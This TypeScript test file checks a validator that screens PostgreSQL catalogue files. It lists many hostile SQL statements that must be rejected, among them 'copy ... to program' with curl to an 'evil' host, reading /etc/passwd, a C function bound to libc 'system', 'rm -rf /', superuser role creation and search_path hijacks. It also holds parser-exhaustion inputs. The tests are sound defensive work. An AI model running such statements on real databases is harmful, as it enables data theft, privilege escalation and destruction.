import { AppError } from "@rowhouse/errors";
import { describe, expect, it } from "vitest";
import { type FileObject, guardCatalogueFile } from "../../src/index.ts";

const trips: FileObject = { schema: "fleet", name: "trips" };
const ofFunction: FileObject = { schema: "fleet", name: "f" };

async function faultsOf(text: string, file: FileObject): Promise<string[]> {
  const error: unknown = await guardCatalogueFile(text, file, "/data").catch((caught) => caught);
  if (!(error instanceof AppError)) return [];
  return error.faults.map(({ code, message, details: { line, column } = {} }) => {
    return `${code} ${String(line)}:${String(column)} ${message}`;
  });
}

const f = "create function fleet.f() returns int language sql";
const trigger = "create trigger t before insert on fleet.trips for each row execute function";

const hostileOfTable: readonly string[] = [
  "do $$ begin delete from fleet.trips; end $$",
  "insert into fleet.trips values (1)",
  "update fleet.trips set id = 1",
  "delete from fleet.trips",
  "merge into fleet.trips t using fleet.other o on true when matched then delete",
  "truncate fleet.trips",
  "select pg_terminate_backend(1)",
  "select 1 into fleet.trips",
  "values (1)",
  "table fleet.trips",
  "call fleet.trips()",
  "begin",
  "commit",
  "rollback",
  "savepoint a",
  "prepare transaction 'a'",
  "set role postgres",
  "set search_path = evil",
  "reset all",
  "set session authorization postgres",
  "copy fleet.trips to program 'curl evil'",
  "copy fleet.trips from '/etc/passwd'",
  "grant select on fleet.trips to public",
  "revoke all on fleet.trips from public",
  "grant admin to me",
  "alter default privileges grant select on tables to public",
  "alter table fleet.trips owner to postgres",
  "alter table fleet.trips set schema public",
  "alter table fleet.trips rename to others",
  "alter table fleet.trips rename column a to b",
  "alter table fleet.trips drop column a",
  "alter table fleet.trips add column a int",
  "alter table fleet.trips disable row level security",
  "alter table fleet.trips drop constraint a",
  "alter table fleet.trips set tablespace fast",
  "alter table fleet.trips set (fillfactor = 10)",
  "alter table fleet.trips alter a type text using 'x' collate \"C\"",
  "alter table fleet.trips enable row level security, owner to postgres",
  "alter table if exists fleet.trips enable row level security",
  "alter table fleet.others enable row level security",
  "alter table trips enable row level security",
  "alter table other.fleet.trips enable row level security",
  "alter table system.users enable row level security",
  "alter table pg_catalog.pg_class enable row level security",
  "drop table fleet.trips",
  "drop policy p on fleet.trips",
  "create table fleet.others (id int)",
  "create table if not exists fleet.trips (id int)",
  "create temporary table trips (id int)",
  "create table fleet.trips (id int) tablespace fast",
  "create table fleet.trips (id int) with (fillfactor = 10)",
  "create table fleet.trips as select 1 as id",
  "create table fleet.trips (id int references system.users)",
  "create foreign table fleet.trips (id int) server s",
  "create view fleet.trips as select * from system.users",
  "create temporary view trips as select 1",
  "create materialized view fleet.trips as select 1",
  "create index concurrently i on fleet.trips (id)",
  "create index on fleet.trips (id)",
  "create index if not exists i on fleet.trips (id)",
  "create index i on fleet.trips (id) tablespace fast",
  "create index i on fleet.trips (system.secret(id))",
  `${trigger} system.record_change('x')`,
  "create trigger t before insert on fleet.others for each row execute function fleet.f()",
  "create policy p on fleet.others using (true)",
  "create policy p on fleet.trips using (exists (select from system.sessions))",
  "create rule r as on delete to fleet.others do instead nothing",
  "create rule r as on delete to fleet.trips do also delete from system.audit_log",
  "comment on table fleet.others is 'x'",
  "comment on column fleet.others.a is 'x'",
  "comment on database d is 'x'",
  "comment on role r is 'x'",
  "comment on extension e is 'x'",
  "security label on table fleet.trips is 'x'",
  "create server s foreign data wrapper postgres_fdw",
  "create user mapping for public server s options (password 'x')",
  "create foreign data wrapper w",
  "import foreign schema s from server t into fleet",
  "create event trigger e on ddl_command_end execute function fleet.f()",
  "create extension pgcrypto",
  "alter extension pgcrypto update",
  "create publication p for all tables",
  "create subscription s connection 'host=evil' publication p",
  "create language plperlu",
  "create role evil superuser",
  "alter role postgres password 'x'",
  "create database evil",
  "alter system set archive_command = 'evil'",
  "create tablespace t location '/tmp'",
  "create cast (text as int) with inout as implicit",
  "create operator fleet.trips (function = fleet.f, leftarg = int)",
  "create operator class fleet.trips for type int using btree as storage int",
  "create collation fleet.trips (locale = 'C')",
  "create type fleet.trips as enum ('a')",
  "create type fleet.trips (input = fleet.a, output = fleet.b)",
  "create access method m type table handler h",
  "create transform for int language sql (from sql with function f(internal))",
  "create statistics fleet.trips on a, b from fleet.trips",
  "lock table fleet.trips",
  "vacuum fleet.trips",
  "listen a",
  "notify a",
  "load 'evil'",
  "explain analyze delete from fleet.trips",
  "prepare p as select 1",
  "execute p",
  "declare c cursor for select 1",
  "refresh materialized view fleet.trips",
  "reassign owned by a to b",
  "drop owned by a",
  "create policy p on fleet.trips using (true); create policy p on fleet.trips using (false)",
  "create policy p on fleet.trips using (true); drop table fleet.trips",
  "create policy p on fleet.trips using (",
  "\\! rm -rf /",
];

const hostileOfFunction: readonly string[] = [
  "create function fleet.f() returns int language c as 'libc', 'system'",
  "create function fleet.f() returns int language internal as 'pg_terminate_backend'",
  "create function fleet.f() returns int language \"C\" as 'libc', 'system'",
  `${f} set role = 'postgres' as 'select 1'`,
  `${f} set session_authorization = 'postgres' as 'select 1'`,
  `${f} set session_replication_role = 'replica' as 'select 1'`,
  `${f} set rowhouse.actor = 'x' as 'select 1'`,
  `${f} set search_path from current as 'select 1'`,
  `${f} begin atomic; select id from system.users; end`,
  "create function fleet.f(a system.users) returns int language sql as 'select 1'",
  "create function fleet.f() returns setof system.users language sql as 'select 1'",
  "create function fleet.g() returns int language sql as 'select 1'",
  "create function public.f() returns int language sql as 'select 1'",
  "create function f() returns int language sql as 'select 1'",
  "create function system.f() returns int language sql as 'select 1'",
  "create function pg_catalog.f() returns int language sql as 'select 1'",
  "alter function fleet.f() security definer",
  "alter function fleet.f() owner to postgres",
  "alter function fleet.f() set schema system",
  "alter function fleet.f() rename to g",
  "alter function fleet.f() depends on extension pgcrypto",
  "alter function fleet.f() set search_path = evil",
  "grant execute on function fleet.f() to public",
  "drop function fleet.f()",
  "comment on function fleet.g() is 'x'",
  "comment on function f() is 'x'",
];

/** Of the schemas of PostgreSQL and of the service, with the files that would have them. */
const hostileOfSchemas: readonly (readonly [string, string | null, string])[] = [
  ["system", null, "comment on schema system is 'x'"],
  ["system", "users", "comment on table system.users is 'x'"],
  ["system", "users", "comment on column system.users.id is 'x'"],
  ["system", "users", "comment on trigger t on system.users is 'x'"],
  ["system", "users_pkey", "comment on index system.users_pkey is 'x'"],
  ["pg_catalog", null, "comment on schema pg_catalog is 'x'"],
  ["pg_catalog", "f", "create function pg_catalog.f() returns int language sql as 'select 1'"],
  ["pg_temp", "v", "create table pg_temp.v (id int)"],
  ["information_schema", "v", "create view information_schema.v as select 1"],
  ["rowhouse_written", "v", "create view rowhouse_written.v as select 1"],
  ["fleet", "s", "create sequence fleet.s owned by system.users.id"],
  ["fleet", "s", "alter sequence fleet.s owned by system.users.id"],
  ["fleet", "t", "alter table fleet.t alter id set generated always set sequence name system.evil"],
  [
    "fleet",
    "t",
    "create table fleet.t (id int generated always as identity (sequence name system.s))",
  ],
  ["fleet", "f", "create function fleet.f() returns int language sql support system.x as 'x'"],
  ["fleet", "f", `${f} set search_path = system, fleet as 'select count(*) from users'`],
  ["fleet", "v", 'create or replace rule "_RETURN" as on select to fleet.v do instead select 1'],
  ["fleet", "v", "comment on view U&\"fl\\0065et\".v is 'x'"],
];

describe("a file of the catalogue", () => {
  it.each(hostileOfSchemas)("of %s and %s does not have: %s", async (schema, name, text) => {
    expect(await faultsOf(text, { schema, name })).toContainEqual(
      expect.stringMatching(/^EXPRESSION_INVALID \d+:\d+ /),
    );
  });

  it.each(hostileOfTable)("of a table does not have: %s", async (text) => {
    expect(await faultsOf(text, trips)).toContainEqual(
      expect.stringMatching(/^EXPRESSION_INVALID \d+:\d+ /),
    );
  });

  it.each(hostileOfFunction)("of a function does not have: %s", async (text) => {
    expect(await faultsOf(text, ofFunction)).toContainEqual(
      expect.stringMatching(/^EXPRESSION_INVALID \d+:\d+ /),
    );
  });

  it("names each fault with its line and column, beside names that are not ASCII", async () => {
    const text = `-- Für Fahrten
create policy "ü" on fleet.trips using (true);

  grant select on fleet.trips to public;
create policy b on fleet.trips
  using (exists (select from system.users));
`;
    expect(await faultsOf(text, trips)).toEqual([
      "EXPRESSION_INVALID 4:3 Files do not carry privileges of PostgreSQL",
      "EXPRESSION_INVALID 6:30 The schema system belongs to the service",
    ]);
    expect(await faultsOf("create policy a on fleet.trips\nusing (tru e)", trips)).toEqual([
      "EXPRESSION_INVALID 2:12 PostgreSQL's grammar does not accept this text",
    ]);
  });

  it("may have comments, also alone", async () => {
    const text = `-- a comment; drop table x
/* another -- ' one */ comment on table fleet.trips is 'x -- y
z'; -- the end`;
    expect((await guardCatalogueFile(text, trips, "")).map(({ sql }) => sql)).toEqual([
      "comment on table fleet.trips is 'x -- y\nz'",
    ]);
    expect(await guardCatalogueFile(" -- nothing\n", trips, "")).toEqual([]);
    expect(await faultsOf("-- x\nselect 1 -- y", trips)).toHaveLength(1);
    expect(await faultsOf(`-- x\n${"not ".repeat(20_000)}`, trips)).toEqual([
      expect.stringContaining("A statement can have at most"),
    ]);
  });

  it("has a bounded length, and no statement that would exhaust the parser", async () => {
    const long = `comment on table fleet.trips is '${"x".repeat(400_000)}'`;
    const deep = `create policy p on fleet.trips using (${"(".repeat(20_000)}true${")".repeat(20_000)})`;
    const many = "comment on table fleet.trips is 'x';".repeat(8_000);
    const nots20000 = "not ".repeat(20_000);
    const unended = [
      "/*".repeat(150_000),
      `comment on table fleet.trips is 'x'${"/**/".repeat(70_000)}`,
      Array.from({ length: 40_000 }, (_, position) => `$a${position}$ `)
        .join("")
        .slice(0, 299_000),
    ];
    const nots = `create policy p on fleet.trips using (${"not ".repeat(9_900)}true)`;
    // No comment or literal hides the tokens of a statement.
    const hidden = [
      `create policy p on fleet.trips /* /* */ -- */ using (${nots20000}true)\n with check ($a$*/x$a$ = '')`,
      `create policy p on fleet.trips using (éE'\\' || ' -- ' = '' and ${nots20000}true\n)`,
    ];
    for (const text of hidden) {
      expect(await faultsOf(text, trips)).toEqual([expect.stringContaining("can have at most")]);
    }
    const started = performance.now();
    for (const text of unended) expect(await faultsOf(text, trips)).not.toEqual([]);
    expect(performance.now() - started).toBeLessThan(4000);
    for (const text of [long, deep, many, nots, "comment on table fleet.trips is '\0'"]) {
      expect(await faultsOf(text, trips)).not.toEqual([]);
    }
    // The parser still works.
    expect(await faultsOf("comment on table fleet.trips is 'x'", trips)).toEqual([]);
  });

  it("has what PostgreSQL writes of the object of its path", async () => {
    const text = `CREATE OR REPLACE FUNCTION fleet.f(a integer, OUT b text) RETURNS text LANGUAGE sql SECURITY DEFINER
 SET search_path TO 'pg_catalog' AS $$ select 'system.users; drop table x' $$;
COMMENT ON FUNCTION fleet.f(a integer) IS 'It; is';`;
    const statements = await guardCatalogueFile(text, ofFunction, "");
    expect(
      statements.map(({ object, isDefiner, place }) => [object.key, isDefiner, place]),
    ).toEqual([
      ["function fleet.f(integer)", true, { line: 1, column: 1 }],
      ["comment on function fleet.f(integer)", false, { line: 3, column: 1 }],
    ]);
    const policy = "create policy p on fleet.trips to app, public using (system.id = 1)";
    expect((await guardCatalogueFile(policy, trips, "")).map(({ logins }) => logins)).toEqual([
      ["app"],
    ]);
  });
});
